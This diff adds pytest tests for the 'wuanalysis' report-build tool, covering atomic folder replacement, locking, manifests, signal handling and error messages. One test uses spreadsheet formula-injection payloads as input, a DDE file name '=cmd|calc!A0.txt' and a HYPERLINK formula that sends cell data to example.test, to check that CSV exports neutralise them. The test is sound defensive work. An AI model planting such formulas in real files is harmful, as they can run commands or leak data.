@@ -1,0 +1,304 @@
+"""wuanalysis.build: one call for the main job, and the output folder as one unit.
+
+A build writes into a staging folder and swaps it in whole, so the output folder is never a mix of two builds, a
+mistyped input path changes nothing, another build of the same folder is refused, and Ctrl-C or SIGTERM leave
+the old folder as it was. The manifest marks the folder as ours.
+"""
+from __future__ import annotations
+
+import fcntl
+import hashlib
+import json
+import os
+import signal
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+import wuanalysis
+from wuanalysis.build import (
+    MANIFEST_NAME, BuildError, BuildResult, NothingRead, OutputLocked, ProblemsFound, build, lock_path,
+)
+from wuanalysis.cli import main
+
+ROOT = Path(__file__).resolve().parent.parent
+SEEDS = ROOT / "seeds"
+
+
+def snapshot(folder: Path) -> dict[str, bytes]:
+    """Every file under ``folder`` (hidden ones too) with its content."""
+    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}
+
+
+def leftovers(parent: Path, out: Path) -> list[str]:
+    """Staging or old folders (and lock files) a build left beside ``out``."""
+    return sorted(p.name for p in parent.iterdir() if p.name.startswith(f".{out.name}."))
+
+
+@pytest.fixture(scope="module")
+def tables_build(tmp_path_factory):
+    """The seeds built without briefings, once for the module."""
+    out = tmp_path_factory.mktemp("build") / "out"
+    return build(SEEDS, out, briefings=False)
+
+
+def test_build_is_exported_and_returns_data(tables_build, capsys):
+    assert wuanalysis.build is build
+    result = tables_build
+    assert isinstance(result, BuildResult)
+    assert len(result.corpus.documents) == 5 and len(result.corpus.facts) == 200
+    assert 4094 in set(result.measurements["value"])
+    assert result.pages is None and result.ok and result.problems.empty
+    assert result.summary() == "5 files: 5 reports read, 200 figures, 0 problems"
+    names = {p.name for p in result.files}
+    assert {"documents.parquet", "facts.csv", "measurements.parquet", "issues.csv", MANIFEST_NAME} <= names
+    assert all(p.exists() and result.out in p.parents for p in result.files)
+    assert capsys.readouterr() == ("", "")  # the library never prints
+
+
+def test_the_manifest_names_the_tool_the_options_and_every_input_with_its_hash(tables_build):
+    manifest = json.loads((tables_build.out / MANIFEST_NAME).read_text(encoding="utf-8"))
+    assert manifest["generator"] == "wuanalysis" and manifest["version"] == wuanalysis.__version__
+    assert manifest["options"]["briefings"] is False and manifest["options"]["lang"] == "vi"
+    assert manifest["created"]
+    [inputs] = manifest["inputs"]
+    assert Path(inputs["absolute"]) == SEEDS
+    files = {f["path"]: f for f in inputs["files"]}
+    assert sorted(files) == sorted(p.name for p in SEEDS.glob("*.txt"))
+    for name, entry in files.items():
+        assert entry["sha256"] == hashlib.sha256((SEEDS / name).read_bytes()).hexdigest()
+        assert entry["status"] == "read"
+    assert manifest == tables_build.manifest
+
+
+def test_a_new_build_replaces_the_folder_whole_but_keeps_its_cache(tmp_path):
+    out = tmp_path / "out"
+    build(SEEDS, out, briefings=False)
+    (out / "briefings").mkdir()
+    (out / "briefings" / "ha-giang.html").write_text("an earlier build's province", encoding="utf-8")
+    (out / "scorecards.xlsx").write_bytes(b"an earlier workbook")
+    (out / ".wuanalysis").mkdir()
+    (out / ".wuanalysis" / "cache.bin").write_bytes(b"kept")
+    (out / ".gitkeep").write_bytes(b"")
+    result = build(SEEDS / "003_1bd7b950d73e6ed6.txt", out, briefings=False)
+    assert list(result.corpus.documents["doc"]) == ["003_1bd7b950d73e6ed6.txt"]
+    assert not (out / "briefings").exists() and not (out / "scorecards.xlsx").exists()
+    assert (out / ".wuanalysis" / "cache.bin").read_bytes() == b"kept" and (out / ".gitkeep").exists()
+    assert list(pd.read_parquet(out / "documents.parquet")["doc"]) == ["003_1bd7b950d73e6ed6.txt"]
+    assert leftovers(tmp_path, out) == []
+
+
+def test_a_mistyped_input_changes_nothing(tmp_path, capsys):
+    out = tmp_path / "out"
+    build(SEEDS, out, briefings=False)
+    before = snapshot(out)
+    with pytest.raises(NothingRead) as caught:
+        build(tmp_path / "seedz", out, briefings=False)
+    assert "seedz" in str(caught.value) and str(out) in str(caught.value)
+    assert caught.value.corpus.issues["reason"].tolist() == ["missing"]
+    assert snapshot(out) == before
+    assert main(["build", str(tmp_path / "seedz"), "--out", str(out), "-q"]) == 1
+    err = capsys.readouterr().err
+    assert "seedz" in err and "no report could be read" in err and "Traceback" not in err
+    assert snapshot(out) == before and leftovers(tmp_path, out) == []
+
+
+def test_strict_changes_nothing_when_a_file_has_a_problem(tmp_path):
+    reports = tmp_path / "reports"
+    reports.mkdir()
+    (reports / "ok.txt").write_text("Hội LHPN xã đã giúp 12 hộ thoát nghèo.", encoding="utf-8")
+    (reports / "empty.txt").write_bytes(b"")
+    out = tmp_path / "out"
+    with pytest.raises(ProblemsFound):
+        build(reports, out, briefings=False, strict=True)
+    assert not out.exists()
+    assert build(reports, out, briefings=False).problems["reason"].tolist() == ["empty"]
+
+
+def test_a_folder_that_is_not_ours_is_never_replaced(tmp_path, capsys):
+    out = tmp_path / "thesis"
+    out.mkdir()
+    (out / "chapter1.docx").write_bytes(b"mine")
+    with pytest.raises(BuildError, match="did not write") as caught:
+        build(SEEDS, out, briefings=False)
+    assert str(out) in str(caught.value) and "chapter1.docx" in str(caught.value)
+    assert snapshot(out) == {"chapter1.docx": b"mine"}
+    assert main(["build", str(SEEDS), "--out", str(out), "-q"]) == 2
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1 and "thesis" in err and "another --out" in err
+    # an empty folder, or one holding only .gitkeep, is fine
+    (out / "chapter1.docx").unlink()
+    (out / ".gitkeep").write_bytes(b"")
+    build(SEEDS, out, briefings=False)
+    assert (out / MANIFEST_NAME).exists() and (out / ".gitkeep").exists()
+
+
+def test_a_folder_built_before_manifests_existed_is_ours(tmp_path):
+    out = tmp_path / "outputs"
+    out.mkdir()
+    for name in ("documents.parquet", "facts.csv", "issues.csv", "index.html"):
+        (out / name).write_bytes(b"old")
+    (out / "briefings").mkdir()
+    build(SEEDS, out, briefings=False)
+    assert not (out / "index.html").exists() and (out / MANIFEST_NAME).exists()
+
+
+def test_a_second_build_of_the_same_folder_is_refused_at_once(tmp_path, capsys):
+    out = tmp_path / "out"
+    path = lock_path(out)
+    assert path.parent == tmp_path and path.name.startswith(".")
+    with open(path, "w") as held:  # another build, as far as this one can tell
+        fcntl.flock(held, fcntl.LOCK_EX | fcntl.LOCK_NB)
+        held.write("4242")
+        held.flush()
+        with pytest.raises(OutputLocked) as caught:
+            build(SEEDS, out, briefings=False)
+        assert str(out) in str(caught.value) and "4242" in str(caught.value)
+        assert main(["build", str(SEEDS), "--out", str(out), "-q"]) == 2
+        err = capsys.readouterr().err
+        assert err.count("\n") == 1 and "another wuanalysis build (process 4242)" in err
+    assert not out.exists()
+    build(SEEDS, out, briefings=False)  # free again
+    assert (out / MANIFEST_NAME).exists() and not path.exists()
+
+
+@pytest.mark.parametrize("value", ["nan", "0", "-3", "inf", "lots"])
+def test_max_mb_must_be_a_positive_number(value, tmp_path, capsys):
+    for command in (["build", str(SEEDS), "--out", str(tmp_path / "out")],
+                    ["extract", str(SEEDS), "--facts", str(tmp_path / "f.csv")]):
+        with pytest.raises(SystemExit) as caught:
+            main([*command, "--max-mb", value])
+        assert caught.value.code == 2
+        err = capsys.readouterr().err
+        assert "--max-mb" in err and "positive number" in err or "a number" in err
+        assert "Traceback" not in err and err.strip().splitlines()[-1].startswith("wuanalysis ")
+    assert not (tmp_path / "out").exists()
+    with pytest.raises(ValueError):
+        build(SEEDS, tmp_path / "out", max_mb=float(value) if value != "lots" else value)
+
+
+def test_an_output_folder_that_cannot_be_made_is_one_line(tmp_path, capsys):
+    blocker = tmp_path / "a-file"
+    blocker.write_text("not a folder", encoding="utf-8")
+    with pytest.raises(BuildError, match="a-file"):
+        build(SEEDS, blocker / "out", briefings=False)
+    assert main(["build", str(SEEDS), "--out", str(blocker / "out"), "-q"]) == 2
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1 and str(blocker) in err and "Traceback" not in err
+    assert main(["build", str(SEEDS), "--out", str(blocker), "-q"]) == 2
+    assert "is a file, not a folder" in capsys.readouterr().err
+
+
+def test_extract_outputs_that_cannot_be_written_are_named_and_the_others_written(tmp_path, capsys):
+    blocker = tmp_path / "a-file"
+    blocker.write_text("not a folder", encoding="utf-8")
+    with pytest.raises(SystemExit) as caught:
+        main(["extract", str(SEEDS), "--facts", str(blocker / "facts.csv"), "--documents",
+              str(tmp_path / "docs.csv"), "--issues", str(tmp_path), "-q"])
+    assert caught.value.code == 2
+    err = capsys.readouterr().err
+    assert "Traceback" not in err
+    assert "unknown table format" in err  # a folder given for --issues: refused before anything is read
+    code = main(["extract", str(SEEDS), "--facts", str(blocker / "facts.csv"), "--documents",
+                 str(tmp_path / "docs.csv"), "-q"])
+    err = capsys.readouterr().err
+    assert code == 2 and err.count("\n") == 1
+    assert f"cannot write {blocker / 'facts.csv'}" in err and "Traceback" not in err
+    assert len(pd.read_csv(tmp_path / "docs.csv")) == 5
+
+
+def test_csv_copies_keep_report_text_from_becoming_formulas(tmp_path):
+    reports = tmp_path / "reports"
+    reports.mkdir()
+    line = '=HYPERLINK("http://example.test/?"&B2,"Xem") Hội LHPN xã đã giúp 12 hộ thoát nghèo.'
+    (reports / "=cmd|calc!A0.txt").write_text(line + "\n- Kết nạp 35 hội viên mới.\n", encoding="utf-8")
+    (reports / "@empty.txt").write_bytes(b"")
+    out = tmp_path / "out"
+    build(reports, out, briefings=False)
+    raw = {name: pd.read_csv(out / f"{name}.csv", dtype=str, keep_default_na=False)
+           for name in ("documents", "facts", "measurements", "issues")}
+    exact = {name: pd.read_parquet(out / f"{name}.parquet") for name in ("documents", "facts", "issues")}
+    risky = ("=", "+", "-", "@", "\t", "\r")
+    for name, frame in raw.items():
+        for column in frame.columns:
+            assert not frame[column].str.startswith(risky).any(), f"{name}.csv column {column}"
+    assert raw["documents"]["doc"].tolist() == ["'=cmd|calc!A0.txt"]
+    assert exact["documents"]["doc"].tolist() == ["=cmd|calc!A0.txt"]  # the parquet keeps the exact text
+    assert any(s.startswith("=HYPERLINK") for s in exact["facts"]["sentence"])
+    assert any(s.startswith("'=HYPERLINK") for s in raw["facts"]["sentence"])
+    assert "'@empty.txt" in raw["issues"]["doc"].tolist() and "@empty.txt" in exact["issues"]["doc"].tolist()
+
+
+def test_the_summary_counts_every_file_under_the_inputs(tmp_path):
+    reports = tmp_path / "reports"
+    reports.mkdir()
+    for seed in sorted(SEEDS.glob("*.txt"))[:2]:
+        (reports / seed.name).write_bytes(seed.read_bytes())
+    (reports / "old-report.doc").write_bytes(b"\xd0\xcf\x11\xe0 an old Word file")
+    (reports / "empty.txt").write_bytes(b"")
+    build(SEEDS, reports / "last-build", briefings=False)  # our own output, kept among the reports
+    result = build(reports, tmp_path / "out", briefings=False)
+    assert result.summary().startswith("5 files: 2 reports read, ")
+    assert result.summary().endswith(", 2 problems, 1 skipped as our own output (see issues.csv)")
+    issues = pd.read_csv(tmp_path / "out" / "issues.csv")
+    assert sorted(issues["reason"]) == ["empty", "own_output", "unsupported"]
+
+
+def test_target_rows_that_match_nothing_are_problems_in_issues_and_summary(tmp_path):
+    targets = tmp_path / "targets.csv"
+    targets.write_text(
+        "indicator,scope,period,period_span,value,unit,label_vi,source\n"
+        "members_new,Bình Phước,2023,year,2100,hội viên,Kết nạp 2.100 hội viên mới,NQ\n"
+        "households_out_of_poverty,Nghệ An,2023,year,300,hộ,Giúp 300 hộ thoát nghèo,KH\n", encoding="utf-8")
+    result = build(SEEDS, tmp_path / "out", briefings=False, targets=targets)
+    unmatched = result.problems[result.problems["reason"] == "target_unmatched"]
+    assert len(unmatched) == 1 and "Nghệ An" in unmatched["detail"].iloc[0]
+    assert unmatched["path"].iloc[0] == str(targets)
+    assert "1 target matching no result (see issues.csv)" in result.summary()
+    assert "target_unmatched" in set(pd.read_csv(tmp_path / "out" / "issues.csv")["reason"])
+
+
+def test_sigterm_during_a_build_leaves_the_old_folder_and_no_staging(tmp_path):
+    out = tmp_path / "out"
+    build(SEEDS, out, briefings=False)
+    before = snapshot(out)
+    proc = subprocess.Popen([sys.executable, "-m", "wuanalysis", "build", str(SEEDS), "--out", str(out),
+                             "--workers", "1", "-q"], cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                            text=True)
+    deadline = time.monotonic() + 120
+    while not any("staging" in name for name in leftovers(tmp_path, out)):
+        assert proc.poll() is None and time.monotonic() < deadline, "the build ended before it could be stopped"
+        time.sleep(0.05)
+    time.sleep(1)  # into the briefings
+    proc.send_signal(signal.SIGTERM)
+    _stdout, stderr = proc.communicate(timeout=300)
+    assert proc.returncode == 128 + signal.SIGTERM, stderr
+    assert "terminated" in stderr and "Traceback" not in stderr
+    assert snapshot(out) == before
+    assert leftovers(tmp_path, out) == []
+
+
+def test_a_workbook_that_cannot_be_written_is_named_and_the_pages_still_made(tmp_path, monkeypatch, capsys):
+    from wuanalysis import briefing
+
+    def locked(measurements, out_dir, **kwargs):
+        path = Path(out_dir) / "scorecards.xlsx"
+        raise PermissionError(13, "Permission denied", str(path))
+
+    monkeypatch.setattr(briefing, "write_scorecards", locked)
+    out = tmp_path / "out"
+    assert main(["build", str(SEEDS), "--out", str(out), "--workers", "1", "-q"]) == 1
+    captured = capsys.readouterr()
+    lines = [line for line in captured.err.splitlines() if "scorecards.xlsx" in line]
+    assert len(lines) == 1 and "Traceback" not in captured.err
+    assert f"cannot write {out / 'scorecards.xlsx'}" in lines[0] and "Excel" in lines[0]
+    assert "staging" not in lines[0]
+    assert (out / "index.html").exists() and (out / "briefings" / "binh-phuoc.html").exists()
+    issues = pd.read_csv(out / "issues.csv")
+    assert issues["reason"].tolist() == ["write_failed"]
+    notebook = (out / "briefings" / "binh-phuoc.ipynb").read_text(encoding="utf-8")
+    assert "staging" not in notebook and json.dumps(str(out))[1:-1] in notebook
